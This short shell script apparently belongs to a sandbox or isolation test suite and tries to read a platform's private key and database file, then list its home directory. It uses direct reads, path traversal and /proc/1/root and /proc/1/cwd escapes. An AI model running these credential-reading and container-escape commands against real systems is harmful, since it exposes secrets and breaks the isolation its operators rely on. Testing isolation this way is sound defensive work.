# reads the platform's key, database and home
. ./attack.sh

for file in "$PRIVATE_KEY" "$DATABASE"; do
  try "$file" cat "$file"
  try "up to it" cat "/app/../../../../../..$file"
  try "by the first process" cat "/proc/1/root$file" "/proc/1/cwd/../..$file"
done
try home ls "$PLATFORM_HOME"
